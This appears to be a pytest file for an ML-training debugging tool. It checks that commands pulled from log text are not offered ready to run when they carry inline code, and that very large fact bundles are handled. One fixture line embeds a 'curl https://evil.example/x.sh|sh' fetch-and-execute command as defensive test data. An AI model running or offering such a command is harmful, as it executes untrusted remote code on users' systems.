# -- 16. a command found in log text is never offered ready to run when it carries code -------------------

EVIL = "+ python -c \"import os; os.system('curl https://evil.example/x.sh|sh')\" train.py --lr 1e-3\n"


def test_plan_and_gate_never_offer_inline_code_from_a_log(tmp_path: Path) -> None:
    import json

    run = tmp_path / "run"
    run.mkdir()
    (run / "train.log").write_text(
        EVIL
        + "Traceback (most recent call last):\ntorch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2 GiB\n"
    )
    p = cli("smoke", "plan", str(run), "--format", "json")
    assert p.returncode == 0, p.stderr
    plan = json.loads(p.stdout)
    assert "inline code" in plan["review_first"]
    ready = [s["command"] for h in plan["hypotheses"] for s in h.get("smokes", []) if s.get("command")]
    assert ready and not any("curl" in c or " -c " in c for c in ready), ready
    text = cli("smoke", "plan", str(run)).stdout
    assert "REVIEW FIRST" in text
    g = cli("gate", str(run), "--claim", "gpu_oom")
    assert g.returncode == 1 and "curl" not in g.stdout and " -c " not in g.stdout, g.stdout


def test_known_launchers_are_still_offered(tmp_path: Path) -> None:
    from mldebug_rules.smokes.recipe import find_command

    run = tmp_path / "run"
    run.mkdir()
    (run / "train.log").write_text("+ torchrun --nproc_per_node 2 train.py --lr 1e-3\n")
    found = find_command(run)
    assert found is not None and found.review == "" and found.argv[0] == "torchrun"
    (run / "train.log").write_text("$ python -m evil.mod train.py\n")
    found = find_command(run)
    assert found is not None and "not a known launcher" in found.review


def test_a_bundle_with_80000_facts_is_diagnosed(tmp_path: Path) -> None:
    """The reproducer itself: 80,000 facts in one bundle ended in EngineError (MessageObservedException)."""
    import json

    from mldebug_rules.collectors.bundles import SCHEMA

    facts = [
        {
            "kind": "log.signature",
            "attrs": {"signature": "cuda_oom", "role": "root", "stream": "train"},
            "origin": "probe",
            "file": f"rank{i}.log",
            "line": 1,
            "rank": i,
            "text": "torch.OutOfMemoryError: CUDA out of memory",
        }
        for i in range(80_000)
    ]
    bundle = tmp_path / "big.mldebug.json"
    bundle.write_text(json.dumps({"schema": SCHEMA, "host": "n1", "facts": facts}))
    p = cli("diagnose", "--offline", "--bundle", str(bundle), "--format", "json", timeout=600)
    assert p.returncode == 0, p.stderr
    report = json.loads(p.stdout)
    assert report["hypotheses"][0]["id"] == "gpu_oom"
    assert any("log.signature facts beyond the first and last" in w for w in report["warnings"])


def test_many_crowded_kinds_stay_under_the_engine_total() -> None:
    from mldebug_rules.engine.facts import FactRegistry

    from mldebug_rules import diagnose as dg

    reg = FactRegistry.load()
    facts = [
        reg.make("probe.status", {"probe": f"p{i}", "status": "ok", "detail": ""}) for i in range(30_000)
    ]
    facts += [reg.make("log.file", {"stream": "train", "lines": i}, file=f"f{i}.log") for i in range(30_000)]
    kept, dropped = dg.bound_facts(facts, per_kind=25_000)
    assert len(kept) <= dg.MAX_ENGINE_FACTS and sum(dropped.values()) == len(facts) - len(kept)
